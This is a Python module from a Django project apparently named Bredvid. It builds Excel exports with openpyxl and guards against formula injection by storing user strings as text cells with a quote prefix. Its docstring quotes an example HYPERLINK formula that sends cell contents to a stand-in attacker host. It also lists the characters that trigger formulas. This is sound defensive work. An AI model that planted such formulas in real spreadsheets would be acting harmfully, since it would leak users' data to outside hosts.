"""Every Excel workbook Bredvid writes is built here (register, audit log, IVO, import template, ...).

User-provided strings are written as text cells and never as formulas (CSV/formula injection,
OWASP "CSV Injection"): a name such as `=HYPERLINK("http://evil.example/?d="&A3,"Visa")` would
otherwise become a live formula on the reader's machine. openpyxl turns any string that starts with
`=` into a formula cell, and a spreadsheet program evaluates a cell typed in as `+1`, `-1+2` or
`@SUM(1)` once someone edits it. So every string is stored as a text cell (`t="inlineStr"`), and a
value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (also after leading
whitespace) additionally gets Excel's quote prefix: the xlsx form of OWASP's leading single quote,
exactly what Excel stores when a person types `'=1`. The text itself is kept as typed, so a
phone number such as `+46 70 123 45 67` reads the same, and reading our own file back (the
supporter import) gives the value that was written. Characters XML cannot hold (control
characters) are dropped instead of failing the export, and a carriage return is stored as the line
feed it would be read back as. Numbers, booleans and dates stay typed.

See docs/adr/0011-spreadsheets-as-text.md.
"""

from __future__ import annotations

import datetime
import decimal
from collections.abc import Iterable
from io import BytesIO
from typing import Any

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: A cell starting with one of these is read as a formula (or as DDE) by some spreadsheet program.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_TEXT = 32_767  # Excel's limit for one cell


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet program could take `text` for a formula."""
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip(" \t\r\n\u00a0").startswith(FORMULA_TRIGGERS)


def clean_text(value: object) -> str:
    """The text as it can be stored in a cell: no XML-illegal characters, no more than Excel holds.

    A carriage return becomes a line feed, as any XML reader would turn it into on reading.
    """
    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
    return ILLEGAL_CHARACTERS_RE.sub("", text)[:MAX_CELL_TEXT]


class Sheet:
    """One worksheet of a `Spreadsheet`; rows are appended in order."""

    def __init__(self, worksheet: WriteOnlyWorksheet) -> None:
        self._worksheet = worksheet

    def _cell(self, value: Any) -> WriteOnlyCell:
        if value is None:
            return WriteOnlyCell(self._worksheet, value=None)
        if isinstance(value, bool | int | float | decimal.Decimal):
            return WriteOnlyCell(self._worksheet, value=value)
        if isinstance(value, datetime.datetime):
            if timezone.is_aware(value):
                value = timezone.localtime(value).replace(tzinfo=None)
            return WriteOnlyCell(self._worksheet, value=value)
        if isinstance(value, datetime.date):
            return WriteOnlyCell(self._worksheet, value=value)
        text = clean_text(value)
        cell = WriteOnlyCell(self._worksheet, value=text)
        cell.data_type = "s"  # never "f" (formula) or "e" (error code such as #N/A)
        if is_formula_like(text):
            cell.quotePrefix = True
        return cell

    def append(self, values: Iterable[Any]) -> None:
        self._worksheet.append([self._cell(value) for value in values])


class Spreadsheet:
    """A workbook written row by row (openpyxl's write-only mode: constant memory for large exports)."""

    def __init__(self) -> None:
        self._workbook = Workbook(write_only=True)

    def sheet(self, title: str, header: Iterable[Any] = ()) -> Sheet:
        sheet = Sheet(self._workbook.create_sheet(title))
        header = list(header)
        if header:
            sheet.append(header)
        return sheet

    def to_bytes(self) -> bytes:
        buffer = BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()

    def response(self, filename: str, *, no_store: bool = True) -> HttpResponse:
        """The workbook as a download named `filename` (ASCII, ending in .xlsx)."""
        return xlsx_response(self.to_bytes(), filename, no_store=no_store)


def xlsx_response(content: bytes, filename: str, *, no_store: bool = True) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    if no_store:
        response["Cache-Control"] = "no-store"
    return response
